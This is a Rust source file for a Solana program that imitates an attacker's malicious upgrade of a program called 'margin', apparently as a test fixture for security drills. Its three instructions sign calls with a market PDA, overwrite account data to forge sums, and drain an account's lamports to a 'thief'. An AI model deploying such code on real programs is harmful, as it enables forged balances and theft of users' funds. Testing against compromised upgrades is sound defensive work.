//! What an attacker would deploy over `margin`, for drills and suites only: it is loaded *at margin's address*, by an upgrade, on local
//! networks, and never built for another purpose. It has all the power that any code at that address can have, and no plan of its own:
//!
//! | byte 0 | then | effect |
//! |---|---|---|
//! | `0` sign | bump, symbol (16), data of a call | makes that call with a market's signature on every account that is that market |
//! | `1` write | offset (u16), bytes | writes into an account of margin's, so that every sum in it can be forged |
//! | `2` close | | takes every lamport of an account of margin's, which is then gone |
//!
//! Accounts of `sign`: 0 the program to call, 1.. what it is given, signing and writing as this transaction lets them.
//! Accounts of `write`: 0 `[writable]` an account of margin's.
//! Accounts of `close`: 0 `[writable]` an account of margin's, 1 `[writable]` who gets the lamports.
#![no_std]

use abi::margin::MARKET_SEED;
use pinocchio::cpi::{invoke_signed_with_bounds, Seed, Signer};
use pinocchio::error::ProgramError;
use pinocchio::instruction::{InstructionAccount, InstructionView};
use pinocchio::{AccountView, Address, ProgramResult};

/// Calls with a market's signature.
pub const SIGN: u8 = 0;
/// Writes into an account.
pub const WRITE: u8 = 1;
/// Closes an account.
pub const CLOSE: u8 = 2;

const SYMBOL_LEN: usize = 16;
/// More than any instruction of the breaker takes.
const ACCOUNTS_MAX: usize = 20;

/// Dispatches on byte 0.
pub fn process_instruction(_: &Address, accounts: &mut [AccountView], instruction: &[u8]) -> ProgramResult {
    let [first, rest @ ..] = accounts else {
        return Err(ProgramError::NotEnoughAccountKeys);
    };
    match instruction {
        [SIGN, bump, call @ ..] => {
            let (symbol, data) = call.split_at_checked(SYMBOL_LEN).ok_or(ProgramError::InvalidInstructionData)?;
            sign(first.address(), rest, symbol, &[*bump], data)
        }
        [WRITE, low, high, bytes @ ..] => {
            let offset = usize::from(u16::from_le_bytes([*low, *high]));
            let end = offset.checked_add(bytes.len()).ok_or(ProgramError::InvalidInstructionData)?;
            let mut data = first.try_borrow_mut()?;
            data.get_mut(offset..end).ok_or(ProgramError::AccountDataTooSmall)?.copy_from_slice(bytes);
            Ok(())
        }
        [CLOSE] => {
            let [thief, ..] = rest else { return Err(ProgramError::NotEnoughAccountKeys) };
            let all = thief.lamports().checked_add(first.lamports()).ok_or(ProgramError::ArithmeticOverflow)?;
            thief.set_lamports(all);
            first.set_lamports(0);
            Ok(())
        }
        _ => Err(ProgramError::InvalidInstructionData),
    }
}

/// Passes the call on; the first account given to it is the market, if it is one.
#[inline(never)]
fn sign(program: &Address, accounts: &[AccountView], symbol: &[u8], bump: &[u8; 1], data: &[u8]) -> ProgramResult {
    if accounts.len() > ACCOUNTS_MAX {
        return Err(ProgramError::InvalidArgument);
    }
    let [market, ..] = accounts else {
        return Err(ProgramError::NotEnoughAccountKeys);
    };
    let mut passed: [InstructionAccount; ACCOUNTS_MAX] =
        core::array::from_fn(|_| InstructionAccount::readonly(program));
    for (meta, account) in passed.iter_mut().zip(accounts) {
        let signs = account.is_signer() || account.address() == market.address();
        *meta = InstructionAccount::new(account.address(), account.is_writable(), signs);
    }
    let passed = passed.get(..accounts.len()).ok_or(ProgramError::InvalidArgument)?;
    let seeds = [Seed::from(MARKET_SEED), Seed::from(symbol), Seed::from(bump)];
    let call = InstructionView { program_id: program, data, accounts: passed };
    invoke_signed_with_bounds::<ACCOUNTS_MAX, AccountView>(&call, accounts, &[Signer::from(&seeds)])
}

#[cfg(not(feature = "no-entrypoint"))]
mod entrypoint {
    #[cfg(target_os = "solana")]
    pinocchio::program_entrypoint!(crate::process_instruction, 24);
    pinocchio::no_allocator!();
    // On the host this links std, whose handler serves the unit tests.
    pinocchio::nostd_panic_handler!();
}
